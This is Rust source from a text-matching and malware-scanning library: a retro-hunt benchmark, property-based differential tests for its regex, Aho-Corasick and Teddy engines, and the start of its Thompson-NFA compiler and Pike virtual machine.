    let start = Instant::now();
    let rescan = hub.retro_rescan(&deployment).expect("retro oracle");
    let rescan_ms = start.elapsed().as_secs_f64() * 1e3;
    let start = Instant::now();
    let hunt = hub.retro_hunt(&deployment).expect("retro hunt");
    let hunt_ms = start.elapsed().as_secs_f64() * 1e3;

    assert!(
        hunt.same_hits(&rescan),
        "index-assisted hunt diverged from the exhaustive rescan"
    );
    for rule in &hunt.rules {
        assert!(
            !rule.digests.is_empty(),
            "planted marker never found: {}",
            rule.rule
        );
    }
    let stats = RetroBenchStats {
        history,
        new_rules,
        index_atoms,
        deploy_ms,
        hunt_ms,
        rescan_ms,
        candidates: hunt.candidates,
        confirm_scans: hunt.confirm_scans,
        hits: hunt.total_hits(),
    };
    if !cfg!(debug_assertions) {
        assert!(
            stats.speedup() >= 10.0,
            "retro-hunt speedup floor: {:.1}x over {} digests",
            stats.speedup(),
            history
        );
    }
    stats
}

/// Renders the comparison table.
pub fn render(s: &RetroBenchStats) -> String {
    format!(
        "== Retro-hunt: {} new rules vs {} scanned digests ==\n\
         deploy (diff + seeded index rebuild): {:.2}ms | index terms: {}\n\
         {:<28} {:>10} {:>12} {:>8}\n\
         {:<28} {:>8.1}ms {:>12} {:>8}\n\
         {:<28} {:>8.1}ms {:>12} {:>8}\n\
         speedup (rescan/hunt): {:.1}x | candidates: {} | hits: {}\n",
        s.new_rules,
        s.history,
        s.deploy_ms,
        s.index_atoms,
        "arm",
        "wall",
        "scans",
        "hits",
        "full rescan (oracle)",
        s.rescan_ms,
        s.history,
        s.hits,
        "retro-hunt (indexed)",
        s.hunt_ms,
        s.confirm_scans,
        s.hits,
        s.speedup(),
        s.candidates,
        s.hits,
    )
}

/// The measurement as the `retro_hunt` object embedded in
/// `BENCH_scanhub.json`.
pub fn to_json(s: &RetroBenchStats) -> jsonmini::Value {
    let mut doc = jsonmini::Value::object();
    doc.insert("history_digests", s.history);
    doc.insert("new_rules", s.new_rules);
    doc.insert("index_atoms", s.index_atoms as usize);
    doc.insert("deploy_ms", s.deploy_ms);
    doc.insert("hunt_ms", s.hunt_ms);
    doc.insert("rescan_ms", s.rescan_ms);
    doc.insert("speedup", s.speedup());
    doc.insert("candidates", s.candidates as usize);
    doc.insert("confirm_scans", s.confirm_scans as usize);
    doc.insert("hits", s.hits);
    doc
}

#[cfg(test)]
mod tests {
    use super::*;

    /// CI smoke (and the release retro-hunt job's speedup gate): a
    /// small history still prunes, agrees with the oracle, and — in
    /// release builds — clears the 10x floor.
    #[test]
    fn retro_hunt_deploy_smoke() {
        let stats = compare(300, 5, 7);
        assert_eq!(stats.history, 300);
        assert!(stats.hits >= stats.new_rules, "every rule must hit");
        assert!(
            stats.confirm_scans < 300,
            "the index must prune: {} scans",
            stats.confirm_scans
        );
        assert!(stats.index_atoms > 0);
        let json = to_json(&stats).to_string();
        assert!(json.contains("\"speedup\""));
    }
}

//! Property-based tests for the regex and multi-literal engines: the
//! Pike VM against the seed's reference engine, the Teddy prefilter
//! against Aho-Corasick, and the lazy DFA against the Pike VM.

use proptest::prelude::*;
use textmatch::{AhoCorasick, DfaOutcome, MatchKind, MultiLiteral, ReferenceRegex, Regex, Teddy};

/// A corpus of patterns exercising every engine feature: literals,
/// classes, shorthands, quantifiers (greedy/bounded/nullable),
/// alternation, anchors, word boundaries, nesting and prefixes that
/// trigger each acceleration path (anchored, literal prefix, first-byte
/// set, none).
const DIFFERENTIAL_PATTERNS: &[&str] = &[
    "a",
    "ab",
    "abc",
    "a+",
    "a*",
    "a?",
    "a+b",
    "a*b*",
    "(ab)+",
    "(ab){2,3}",
    "a{3}",
    "a{1,2}b{1,2}",
    "a|b",
    "ab|b",
    "ab|abc",
    "cat|dog|bird",
    "a(b|c)d",
    "(a(b|c)d)+",
    "^a",
    "^ab+",
    "a$",
    "^a+$",
    "^",
    "$",
    "^$",
    r"\ba",
    r"\bab\b",
    r"\Ba",
    "[ab]",
    "[^a]",
    "[a-c]{2,4}",
    r"\d+",
    r"\w+",
    r"\s",
    ".",
    ".b",
    "a.c",
    ".*b",
    r"a\.b",
    "a.{0,5}c|bc",
    "ab|a.*c",
    // Assertions behind optional heads: a failed assertion stamp from one
    // offset must not suppress the same assertion at a later seed offset.
    r"a?\bb",
    r"a?\Bb",
    r"c*\bab",
];

/// Pattern fragments composed pairwise into two-piece patterns; every
/// concatenation is valid syntax, so random composition explores shapes
/// the fixed list misses.
const PIECES: &[&str] = &[
    "a",
    "b+",
    "(ab)*",
    "a|b",
    "^",
    "$",
    r"\b",
    "[ab]{1,3}",
    ".",
    "a?",
    "ba",
];

/// Asserts the single-pass Pike VM and the seed's restart-per-offset
/// engine agree on every public entry point for one (pattern, haystack)
/// pair.
fn engines_agree(pattern: &str, hay: &[u8]) -> Result<(), TestCaseError> {
    let pike = Regex::new(pattern).expect("pattern must compile");
    let reference = ReferenceRegex::from_regex(&pike);
    prop_assert_eq!(
        pike.is_match(hay),
        reference.is_match(hay),
        "is_match diverged on {:?} / {:?}",
        pattern,
        hay
    );
    prop_assert_eq!(
        pike.find(hay),
        reference.find(hay),
        "find diverged on {:?} / {:?}",
        pattern,
        hay
    );
    prop_assert_eq!(
        pike.find_all(hay),
        reference.find_all(hay),
        "find_all diverged on {:?} / {:?}",
        pattern,
        hay
    );
    for from in [1usize, 2, hay.len() / 2, hay.len()] {
        if from <= hay.len() {
            prop_assert_eq!(
                pike.find_at(hay, from),
                reference.find_at(hay, from),
                "find_at({}) diverged on {:?} / {:?}",
                from,
                pattern,
                hay
            );
        }
    }
    Ok(())
}

/// Escapes every regex metacharacter so a literal string becomes a pattern
/// matching exactly itself.
fn escape_literal(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 2);
    for c in s.chars() {
        if "\\.+*?()|[]{}^$/".contains(c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Naive substring search used as an oracle for Aho-Corasick.
fn naive_find_all(haystack: &[u8], needle: &[u8]) -> Vec<usize> {
    if needle.is_empty() || needle.len() > haystack.len() {
        return Vec::new();
    }
    (0..=haystack.len() - needle.len())
        .filter(|&i| &haystack[i..i + needle.len()] == needle)
        .collect()
}

/// Asserts the Teddy prefilter and Aho-Corasick agree on every public
/// entry point for one (pattern set, haystack) pair.
fn teddy_agrees_with_ac(
    needles: &[String],
    kind: MatchKind,
    hay: &[u8],
) -> Result<(), TestCaseError> {
    let teddy = Teddy::new(needles, kind);
    let ac = AhoCorasick::new(needles, kind);
    prop_assert_eq!(
        teddy.find_all(hay),
        ac.find_all(hay),
        "find_all diverged on {:?} / {:?}",
        needles,
        hay
    );
    prop_assert_eq!(teddy.is_match(hay), ac.is_match(hay));
    prop_assert_eq!(teddy.find_per_pattern(hay), ac.find_per_pattern(hay));
    // for_each_match streams in a different (but documented) order:
    // Teddy ascends by start, AC by end. The match *sets* are equal.
    #[allow(clippy::type_complexity)]
    let collect = |f: &dyn Fn(&mut dyn FnMut(textmatch::AcMatch) -> bool)| {
        let mut v: Vec<(usize, usize, usize)> = Vec::new();
        f(&mut |m| {
            v.push((m.pattern, m.start, m.end));
            true
        });
        v.sort_unstable();
        v
    };
    let teddy_set = collect(&|visit| teddy.for_each_match(hay, visit));
    let ac_set = collect(&|visit| ac.for_each_match(hay, visit));
    prop_assert_eq!(
        teddy_set,
        ac_set,
        "for_each_match sets diverged on {:?}",
        needles
    );
    Ok(())
}

proptest! {
    #[test]
    fn escaped_literal_matches_itself(s in "[ -~]{1,40}") {
        let re = Regex::new(&escape_literal(&s)).expect("escaped literal must compile");
        prop_assert!(re.is_match(s.as_bytes()));
    }

    #[test]
    fn escaped_literal_found_inside_padding(
        s in "[a-z]{1,20}",
        pre in "[A-Z0-9]{0,20}",
        post in "[A-Z0-9]{0,20}",
    ) {
        let re = Regex::new(&escape_literal(&s)).expect("compile");
        let hay = format!("{pre}{s}{post}");
        let m = re.find(hay.as_bytes()).expect("must match");
        prop_assert_eq!(m.start, pre.len());
        prop_assert_eq!(m.end, pre.len() + s.len());
    }

    #[test]
    fn is_match_consistent_with_find(pattern in "[a-c]{1,4}", hay in "[a-d]{0,30}") {
        let re = Regex::new(&pattern).expect("compile");
        prop_assert_eq!(re.is_match(hay.as_bytes()), re.find(hay.as_bytes()).is_some());
    }

    #[test]
    fn find_all_matches_are_non_overlapping_and_in_order(
        hay in "[ab]{0,50}",
    ) {
        let re = Regex::new("a+b").expect("compile");
        let all = re.find_all(hay.as_bytes());
        for w in all.windows(2) {
            prop_assert!(w[0].end <= w[1].start);
        }
        for m in &all {
            prop_assert!(hay.as_bytes()[m.start] == b'a');
            prop_assert!(hay.as_bytes()[m.end - 1] == b'b');
        }
    }

    #[test]
    fn char_class_agrees_with_membership(hay in "[ -~]{0,60}") {
        let re = Regex::new("[A-Za-z0-9+/]").expect("compile");
        let expected = hay.bytes().any(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/');
        prop_assert_eq!(re.is_match(hay.as_bytes()), expected);
    }

    #[test]
    fn digit_shorthand_agrees(hay in "[ -~]{0,60}") {
        let re = Regex::new(r"\d").expect("compile");
        prop_assert_eq!(re.is_match(hay.as_bytes()), hay.bytes().any(|b| b.is_ascii_digit()));
    }

    #[test]
    fn nocase_matches_any_casing(word in "[a-z]{1,12}", upper in any::<bool>()) {
        let re = Regex::new_nocase(&word).expect("compile");
        let hay = if upper { word.to_uppercase() } else { word.clone() };
        prop_assert!(re.is_match(hay.as_bytes()));
    }

    #[test]
    fn ac_agrees_with_naive_search(
        needles in prop::collection::vec("[a-c]{1,5}", 1..5),
        hay in "[a-c]{0,60}",
    ) {
        let ac = AhoCorasick::new(&needles, MatchKind::CaseSensitive);
        let per = ac.find_per_pattern(hay.as_bytes());
        for (i, needle) in needles.iter().enumerate() {
            let expected = naive_find_all(hay.as_bytes(), needle.as_bytes());
            prop_assert_eq!(&per[i], &expected, "pattern {}", needle);
        }
    }

    #[test]
    fn ac_is_match_agrees_with_find_all(
        needles in prop::collection::vec("[a-b]{1,4}", 1..4),
        hay in "[a-b]{0,40}",
    ) {
        let ac = AhoCorasick::new(&needles, MatchKind::CaseSensitive);
        prop_assert_eq!(ac.is_match(hay.as_bytes()), !ac.find_all(hay.as_bytes()).is_empty());
    }

    #[test]
    fn parser_never_panics(pattern in "[ -~]{0,30}") {
        // Compiling arbitrary printable garbage must return Ok or Err,
        // never panic.
        let _ = Regex::new(&pattern);
    }

    #[test]
    fn bounded_repeat_counts(n in 1usize..6) {
        let re = Regex::new("a{3}").expect("compile");
        let hay = "a".repeat(n);
        prop_assert_eq!(re.is_match(hay.as_bytes()), n >= 3);
    }

    #[test]
    fn pike_vm_agrees_with_reference_engine(
        // Wide draw + modulo so newly appended patterns are sampled
        // without having to keep this range in sync with the list.
        pi in 0usize..10_000,
        hay in "[abcd \n.]{0,60}",
    ) {
        engines_agree(DIFFERENTIAL_PATTERNS[pi % DIFFERENTIAL_PATTERNS.len()], hay.as_bytes())?;
    }

    #[test]
    fn pike_vm_agrees_on_composed_patterns(
        a in 0usize..10_000,
        b in 0usize..10_000,
        hay in "[ab_ ]{0,40}",
    ) {
        let pattern = format!(
            "{}{}",
            PIECES[a % PIECES.len()],
            PIECES[b % PIECES.len()]
        );
        engines_agree(&pattern, hay.as_bytes())?;
    }

    #[test]
    fn pike_vm_agrees_on_nocase(pat in "[a-c]{1,4}", hay in "[a-cA-C]{0,30}") {
        let pike = Regex::new_nocase(&pat).expect("compile");
        let reference = ReferenceRegex::from_regex(&pike);
        prop_assert_eq!(pike.find_all(hay.as_bytes()), reference.find_all(hay.as_bytes()));
    }

    #[test]
    fn find_all_empty_matches_advance_one_byte(hay in "[ab]{0,30}") {
        // The documented contract: an empty match advances the scan by
        // one byte, so positions are strictly increasing and bounded.
        let re = Regex::new("a*").expect("compile");
        let all = re.find_all(hay.as_bytes());
        for w in all.windows(2) {
            prop_assert!(w[0].end <= w[1].start || (w[0].is_empty() && w[0].start < w[1].start));
            prop_assert!(w[0].start < w[1].start);
        }
        let reference = ReferenceRegex::new("a*").expect("compile");
        prop_assert_eq!(all, reference.find_all(hay.as_bytes()));
    }

    #[test]
    fn teddy_agrees_with_ac_on_random_sets(
        // Length 1..=6 over a 4-letter alphabet: overlapping and exact
        // duplicate patterns are drawn constantly, and 1-byte atoms
        // exercise the degenerate fingerprint path.
        needles in prop::collection::vec("[a-d]{1,6}", 1..10),
        hay in "[a-d]{0,150}",
        nocase in any::<bool>(),
    ) {
        let kind = if nocase { MatchKind::CaseInsensitive } else { MatchKind::CaseSensitive };
        teddy_agrees_with_ac(&needles, kind, hay.as_bytes())?;
        // The empty haystack is a fixed point worth hitting every case.
        teddy_agrees_with_ac(&needles, kind, b"")?;
    }

    #[test]
    fn teddy_agrees_with_ac_on_mixed_case_haystacks(
        needles in prop::collection::vec("[a-c]{2,5}", 1..8),
        hay in "[a-cA-C]{0,120}",
    ) {
        // Case-insensitive needles over a mixed-case haystack: the
        // folded fingerprint tables must agree with AC's folded walk.
        teddy_agrees_with_ac(&needles, MatchKind::CaseInsensitive, hay.as_bytes())?;
        // And case-sensitive needles must NOT fold.
        teddy_agrees_with_ac(&needles, MatchKind::CaseSensitive, hay.as_bytes())?;
    }

    #[test]
    fn multi_literal_tier_selection_is_transparent(
        // Mixing 1-byte atoms in forces the AC fallback tier on some
        // draws and Teddy on others; results must be identical either
        // way.
        needles in prop::collection::vec("[ab]{1,4}", 1..8),
        hay in "[ab]{0,100}",
    ) {
        let ml = MultiLiteral::new(&needles, MatchKind::CaseSensitive);
        let ac = AhoCorasick::new(&needles, MatchKind::CaseSensitive);
        prop_assert_eq!(ml.find_all(hay.as_bytes()), ac.find_all(hay.as_bytes()));
        prop_assert_eq!(ml.is_match(hay.as_bytes()), ac.is_match(hay.as_bytes()));
        prop_assert_eq!(
            ml.find_per_pattern(hay.as_bytes()),
            ac.find_per_pattern(hay.as_bytes())
        );
        let eligible = needles.iter().all(|n| n.len() >= 2);
        prop_assert_eq!(ml.uses_teddy(), eligible, "tier selection drifted");
    }

    #[test]
    fn lazy_dfa_agrees_with_pike_on_edge_patterns(
        pi in 0usize..10_000,
        hay in "[abcd \n.]{0,60}",
    ) {
        let pattern = DIFFERENTIAL_PATTERNS[pi % DIFFERENTIAL_PATTERNS.len()];
        let re = Regex::new(pattern).expect("pattern must compile");
        let hay = hay.as_bytes();
        // The public tiered entry points must equal the pure Pike VM.
        prop_assert_eq!(re.is_match(hay), re.is_match_pike(hay), "is_match on {:?}", pattern);
        prop_assert_eq!(re.find_all(hay), re.find_all_pike(hay), "find_all on {:?}", pattern);
        // The raw DFA (bypassing the haystack-size gate) must agree on
        // existence whenever the pattern is DFA-eligible.
        if let Some(outcome) = re.dfa_earliest_end(hay, 0) {
            match outcome {
                DfaOutcome::NoMatch => prop_assert!(
                    !re.is_match_pike(hay),
                    "DFA said no-match but Pike matched {:?} on {:?}",
                    pattern,
                    hay
                ),
                DfaOutcome::MatchEnd(end) => {
                    prop_assert!(re.is_match_pike(hay), "DFA over-matched {:?}", pattern);
                    prop_assert!(end <= hay.len());
                }
                DfaOutcome::GaveUp => {}
            }
        }
    }

    #[test]
    fn lazy_dfa_agrees_on_composed_patterns(
        a in 0usize..10_000,
        b in 0usize..10_000,
        hay in "[ab_ ]{0,40}",
    ) {
        let pattern = format!("{}{}", PIECES[a % PIECES.len()], PIECES[b % PIECES.len()]);
        let re = Regex::new(&pattern).expect("compile");
        let hay = hay.as_bytes();
        if let Some(outcome) = re.dfa_earliest_end(hay, 0) {
            let pike = re.is_match_pike(hay);
            match outcome {
                DfaOutcome::NoMatch => prop_assert!(!pike, "diverged on {:?}", pattern),
                DfaOutcome::MatchEnd(_) => prop_assert!(pike, "diverged on {:?}", pattern),
                DfaOutcome::GaveUp => {}
            }
        }
    }
}

//! Property-based tests for the regex and Aho-Corasick engines.

use proptest::prelude::*;
use textmatch::{AhoCorasick, MatchKind, ReferenceRegex, Regex};

/// A corpus of patterns exercising every engine feature: literals,
/// classes, shorthands, quantifiers (greedy/bounded/nullable),
/// alternation, anchors, word boundaries, nesting and prefixes that
/// trigger each acceleration path (anchored, literal prefix, first-byte
/// set, none).
const DIFFERENTIAL_PATTERNS: &[&str] = &[
    "a",
    "ab",
    "abc",
    "a+",
    "a*",
    "a?",
    "a+b",
    "a*b*",
    "(ab)+",
    "(ab){2,3}",
    "a{3}",
    "a{1,2}b{1,2}",
    "a|b",
    "ab|b",
    "ab|abc",
    "cat|dog|bird",
    "a(b|c)d",
    "(a(b|c)d)+",
    "^a",
    "^ab+",
    "a$",
    "^a+$",
    "^",
    "$",
    "^$",
    r"\ba",
    r"\bab\b",
    r"\Ba",
    "[ab]",
    "[^a]",
    "[a-c]{2,4}",
    r"\d+",
    r"\w+",
    r"\s",
    ".",
    ".b",
    "a.c",
    ".*b",
    r"a\.b",
    "a.{0,5}c|bc",
    "ab|a.*c",
    // Assertions behind optional heads: a failed assertion stamp from one
    // offset must not suppress the same assertion at a later seed offset.
    r"a?\bb",
    r"a?\Bb",
    r"c*\bab",
];

/// Pattern fragments composed pairwise into two-piece patterns; every
/// concatenation is valid syntax, so random composition explores shapes
/// the fixed list misses.
const PIECES: &[&str] = &[
    "a",
    "b+",
    "(ab)*",
    "a|b",
    "^",
    "$",
    r"\b",
    "[ab]{1,3}",
    ".",
    "a?",
    "ba",
];

/// Asserts the single-pass Pike VM and the seed's restart-per-offset
/// engine agree on every public entry point for one (pattern, haystack)
/// pair.
fn engines_agree(pattern: &str, hay: &[u8]) -> Result<(), TestCaseError> {
    let pike = Regex::new(pattern).expect("pattern must compile");
    let reference = ReferenceRegex::from_regex(&pike);
    prop_assert_eq!(
        pike.is_match(hay),
        reference.is_match(hay),
        "is_match diverged on {:?} / {:?}",
        pattern,
        hay
    );
    prop_assert_eq!(
        pike.find(hay),
        reference.find(hay),
        "find diverged on {:?} / {:?}",
        pattern,
        hay
    );
    prop_assert_eq!(
        pike.find_all(hay),
        reference.find_all(hay),
        "find_all diverged on {:?} / {:?}",
        pattern,
        hay
    );
    for from in [1usize, 2, hay.len() / 2, hay.len()] {
        if from <= hay.len() {
            prop_assert_eq!(
                pike.find_at(hay, from),
                reference.find_at(hay, from),
                "find_at({}) diverged on {:?} / {:?}",
                from,
                pattern,
                hay
            );
        }
    }
    Ok(())
}

/// Escapes every regex metacharacter so a literal string becomes a pattern
/// matching exactly itself.
fn escape_literal(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 2);
    for c in s.chars() {
        if "\\.+*?()|[]{}^$/".contains(c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Naive substring search used as an oracle for Aho-Corasick.
fn naive_find_all(haystack: &[u8], needle: &[u8]) -> Vec<usize> {
    if needle.is_empty() || needle.len() > haystack.len() {
        return Vec::new();
    }
    (0..=haystack.len() - needle.len())
        .filter(|&i| &haystack[i..i + needle.len()] == needle)
        .collect()
}

proptest! {
    #[test]
    fn escaped_literal_matches_itself(s in "[ -~]{1,40}") {
        let re = Regex::new(&escape_literal(&s)).expect("escaped literal must compile");
        prop_assert!(re.is_match(s.as_bytes()));
    }

    #[test]
    fn escaped_literal_found_inside_padding(
        s in "[a-z]{1,20}",
        pre in "[A-Z0-9]{0,20}",
        post in "[A-Z0-9]{0,20}",
    ) {
        let re = Regex::new(&escape_literal(&s)).expect("compile");
        let hay = format!("{pre}{s}{post}");
        let m = re.find(hay.as_bytes()).expect("must match");
        prop_assert_eq!(m.start, pre.len());
        prop_assert_eq!(m.end, pre.len() + s.len());
    }

    #[test]
    fn is_match_consistent_with_find(pattern in "[a-c]{1,4}", hay in "[a-d]{0,30}") {
        let re = Regex::new(&pattern).expect("compile");
        prop_assert_eq!(re.is_match(hay.as_bytes()), re.find(hay.as_bytes()).is_some());
    }

    #[test]
    fn find_all_matches_are_non_overlapping_and_in_order(
        hay in "[ab]{0,50}",
    ) {
        let re = Regex::new("a+b").expect("compile");
        let all = re.find_all(hay.as_bytes());
        for w in all.windows(2) {
            prop_assert!(w[0].end <= w[1].start);
        }
        for m in &all {
            prop_assert!(hay.as_bytes()[m.start] == b'a');
            prop_assert!(hay.as_bytes()[m.end - 1] == b'b');
        }
    }

    #[test]
    fn char_class_agrees_with_membership(hay in "[ -~]{0,60}") {
        let re = Regex::new("[A-Za-z0-9+/]").expect("compile");
        let expected = hay.bytes().any(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/');
        prop_assert_eq!(re.is_match(hay.as_bytes()), expected);
    }

    #[test]
    fn digit_shorthand_agrees(hay in "[ -~]{0,60}") {
        let re = Regex::new(r"\d").expect("compile");
        prop_assert_eq!(re.is_match(hay.as_bytes()), hay.bytes().any(|b| b.is_ascii_digit()));
    }

    #[test]
    fn nocase_matches_any_casing(word in "[a-z]{1,12}", upper in any::<bool>()) {
        let re = Regex::new_nocase(&word).expect("compile");
        let hay = if upper { word.to_uppercase() } else { word.clone() };
        prop_assert!(re.is_match(hay.as_bytes()));
    }

    #[test]
    fn ac_agrees_with_naive_search(
        needles in prop::collection::vec("[a-c]{1,5}", 1..5),
        hay in "[a-c]{0,60}",
    ) {
        let ac = AhoCorasick::new(&needles, MatchKind::CaseSensitive);
        let per = ac.find_per_pattern(hay.as_bytes());
        for (i, needle) in needles.iter().enumerate() {
            let expected = naive_find_all(hay.as_bytes(), needle.as_bytes());
            prop_assert_eq!(&per[i], &expected, "pattern {}", needle);
        }
    }

    #[test]
    fn ac_is_match_agrees_with_find_all(
        needles in prop::collection::vec("[a-b]{1,4}", 1..4),
        hay in "[a-b]{0,40}",
    ) {
        let ac = AhoCorasick::new(&needles, MatchKind::CaseSensitive);
        prop_assert_eq!(ac.is_match(hay.as_bytes()), !ac.find_all(hay.as_bytes()).is_empty());
    }

    #[test]
    fn parser_never_panics(pattern in "[ -~]{0,30}") {
        // Compiling arbitrary printable garbage must return Ok or Err,
        // never panic.
        let _ = Regex::new(&pattern);
    }

    #[test]
    fn bounded_repeat_counts(n in 1usize..6) {
        let re = Regex::new("a{3}").expect("compile");
        let hay = "a".repeat(n);
        prop_assert_eq!(re.is_match(hay.as_bytes()), n >= 3);
    }

    #[test]
    fn pike_vm_agrees_with_reference_engine(
        // Wide draw + modulo so newly appended patterns are sampled
        // without having to keep this range in sync with the list.
        pi in 0usize..10_000,
        hay in "[abcd \n.]{0,60}",
    ) {
        engines_agree(DIFFERENTIAL_PATTERNS[pi % DIFFERENTIAL_PATTERNS.len()], hay.as_bytes())?;
    }

    #[test]
    fn pike_vm_agrees_on_composed_patterns(
        a in 0usize..10_000,
        b in 0usize..10_000,
        hay in "[ab_ ]{0,40}",
    ) {
        let pattern = format!(
            "{}{}",
            PIECES[a % PIECES.len()],
            PIECES[b % PIECES.len()]
        );
        engines_agree(&pattern, hay.as_bytes())?;
    }

    #[test]
    fn pike_vm_agrees_on_nocase(pat in "[a-c]{1,4}", hay in "[a-cA-C]{0,30}") {
        let pike = Regex::new_nocase(&pat).expect("compile");
        let reference = ReferenceRegex::from_regex(&pike);
        prop_assert_eq!(pike.find_all(hay.as_bytes()), reference.find_all(hay.as_bytes()));
    }

    #[test]
    fn find_all_empty_matches_advance_one_byte(hay in "[ab]{0,30}") {
        // The documented contract: an empty match advances the scan by
        // one byte, so positions are strictly increasing and bounded.
        let re = Regex::new("a*").expect("compile");
        let all = re.find_all(hay.as_bytes());
        for w in all.windows(2) {
            prop_assert!(w[0].end <= w[1].start || (w[0].is_empty() && w[0].start < w[1].start));
            prop_assert!(w[0].start < w[1].start);
        }
        let reference = ReferenceRegex::new("a*").expect("compile");
        prop_assert_eq!(all, reference.find_all(hay.as_bytes()));
    }
}

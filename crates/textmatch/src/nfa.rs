//! Thompson-NFA compiler and Pike-style virtual machine.
//!
//! The VM runs a breadth-first thread simulation, which gives linear-time
//! matching in the size of the haystack for `is_match` and
//! leftmost-longest semantics for `find`. Bounded repetitions are expanded
//! at compile time (the parser caps bounds at 1000).

use crate::ast::{Ast, Quantifier};
use crate::charclass::CharClass;
use crate::error::RegexError;
use crate::parser::parse;

/// A single VM instruction.
#[derive(Debug, Clone)]
enum Inst {
    /// Consume one byte matching the class.
    Byte(CharClass),
    /// Fork execution; the first target has priority.
    Split(usize, usize),
    /// Unconditional jump.
    Jmp(usize),
    /// Pattern fully matched.
    Match,
    /// `^` assertion.
    AssertStart,
    /// `$` assertion.
    AssertEnd,
    /// `\b` (true) or `\B` (false) assertion.
    AssertWord(bool),
}

/// A compiled regular-expression program.
///
/// Obtain one through [`Regex::new`]; exposed for size introspection in
/// benchmarks.
#[derive(Debug, Clone)]
pub struct Program {
    insts: Vec<Inst>,
}

impl Program {
    /// Number of VM instructions — a proxy for compiled size.
    pub fn len(&self) -> usize {
        self.insts.len()
    }

    /// Returns true when the program contains no instructions.
    pub fn is_empty(&self) -> bool {
        self.insts.is_empty()
    }
}

/// A span of the haystack matched by a [`Regex`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Match {
    /// Byte offset of the first matched byte.
    pub start: usize,
    /// Byte offset one past the last matched byte.
    pub end: usize,
}

impl Match {
    /// Length of the match in bytes.
    pub fn len(&self) -> usize {
        self.end - self.start
    }

    /// Returns true for an empty match.
    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }
}

/// A compiled regular expression.
///
/// # Examples
///
/// ```
/// use textmatch::Regex;
///
/// let re = Regex::new(r"https?://[\w./-]+")?;
/// let m = re.find(b"GET http://evil.example/payload.bin").unwrap();
/// assert_eq!(m.start, 4);
/// # Ok::<(), textmatch::RegexError>(())
/// ```
#[derive(Debug, Clone)]
pub struct Regex {
    pattern: String,
    program: Program,
}

impl Regex {
    /// Compiles `pattern` into an executable program.
    ///
    /// # Errors
    ///
    /// Returns [`RegexError`] for any syntax error; the offset points into
    /// `pattern`.
    pub fn new(pattern: &str) -> Result<Self, RegexError> {
        Self::with_case(pattern, true)
    }

    /// Compiles `pattern` case-insensitively (YARA `/re/i` or `nocase`).
    ///
    /// # Errors
    ///
    /// Same conditions as [`Regex::new`].
    pub fn new_nocase(pattern: &str) -> Result<Self, RegexError> {
        Self::with_case(pattern, false)
    }

    fn with_case(pattern: &str, case_sensitive: bool) -> Result<Self, RegexError> {
        let ast = parse(pattern)?;
        let mut compiler = Compiler {
            insts: Vec::new(),
            case_sensitive,
        };
        compiler.compile(&ast)?;
        compiler.insts.push(Inst::Match);
        Ok(Regex {
            pattern: pattern.to_owned(),
            program: Program {
                insts: compiler.insts,
            },
        })
    }

    /// The original pattern text.
    pub fn pattern(&self) -> &str {
        &self.pattern
    }

    /// The compiled program (for size introspection).
    pub fn program(&self) -> &Program {
        &self.program
    }

    /// Tests whether the pattern matches anywhere in `haystack`.
    ///
    /// Runs a single forward pass seeding a new thread at every position,
    /// so the cost is `O(len * insts)`.
    pub fn is_match(&self, haystack: &[u8]) -> bool {
        let mut vm = Vm::new(&self.program);
        vm.any_match(haystack)
    }

    /// Finds the leftmost-longest match.
    pub fn find(&self, haystack: &[u8]) -> Option<Match> {
        self.find_at(haystack, 0)
    }

    /// Finds the leftmost-longest match starting at or after `from`.
    pub fn find_at(&self, haystack: &[u8], from: usize) -> Option<Match> {
        let mut vm = Vm::new(&self.program);
        for start in from..=haystack.len() {
            if let Some(end) = vm.longest_end(haystack, start) {
                return Some(Match { start, end });
            }
        }
        None
    }

    /// Returns all non-overlapping leftmost-longest matches.
    ///
    /// Empty matches advance the scan position by one byte so the iteration
    /// always terminates.
    pub fn find_all(&self, haystack: &[u8]) -> Vec<Match> {
        let mut out = Vec::new();
        let mut pos = 0;
        // Cheap rejection before the quadratic offset scan.
        if !self.is_match(haystack) {
            return out;
        }
        while pos <= haystack.len() {
            match self.find_at(haystack, pos) {
                Some(m) => {
                    pos = if m.end > m.start { m.end } else { m.start + 1 };
                    out.push(m);
                }
                None => break,
            }
        }
        out
    }
}

struct Compiler {
    insts: Vec<Inst>,
    case_sensitive: bool,
}

impl Compiler {
    fn compile(&mut self, ast: &Ast) -> Result<(), RegexError> {
        if self.insts.len() > 65_536 {
            return Err(RegexError::new(0, "compiled program too large"));
        }
        match ast {
            Ast::Empty => Ok(()),
            Ast::Class(c) => {
                let mut class = c.clone();
                if !self.case_sensitive {
                    class.make_case_insensitive();
                }
                self.insts.push(Inst::Byte(class));
                Ok(())
            }
            Ast::Concat(parts) => {
                for p in parts {
                    self.compile(p)?;
                }
                Ok(())
            }
            Ast::Group(inner) => self.compile(inner),
            Ast::Alternate(branches) => {
                // Chain of splits: s1 -> b1 | (s2 -> b2 | ...)
                let mut jumps = Vec::new();
                for (i, branch) in branches.iter().enumerate() {
                    if i + 1 < branches.len() {
                        let split_at = self.insts.len();
                        self.insts.push(Inst::Split(0, 0));
                        let b_start = self.insts.len();
                        self.compile(branch)?;
                        jumps.push(self.insts.len());
                        self.insts.push(Inst::Jmp(0));
                        let next = self.insts.len();
                        self.insts[split_at] = Inst::Split(b_start, next);
                    } else {
                        self.compile(branch)?;
                    }
                }
                let end = self.insts.len();
                for j in jumps {
                    self.insts[j] = Inst::Jmp(end);
                }
                Ok(())
            }
            Ast::Repeat(inner, q) => self.compile_repeat(inner, q),
            Ast::StartAnchor => {
                self.insts.push(Inst::AssertStart);
                Ok(())
            }
            Ast::EndAnchor => {
                self.insts.push(Inst::AssertEnd);
                Ok(())
            }
            Ast::WordBoundary => {
                self.insts.push(Inst::AssertWord(true));
                Ok(())
            }
            Ast::NotWordBoundary => {
                self.insts.push(Inst::AssertWord(false));
                Ok(())
            }
        }
    }

    fn compile_repeat(&mut self, inner: &Ast, q: &Quantifier) -> Result<(), RegexError> {
        match (q.min, q.max) {
            (0, None) => self.star(inner),
            (1, None) => {
                // a+  =>  L: a; split L, next
                let start = self.insts.len();
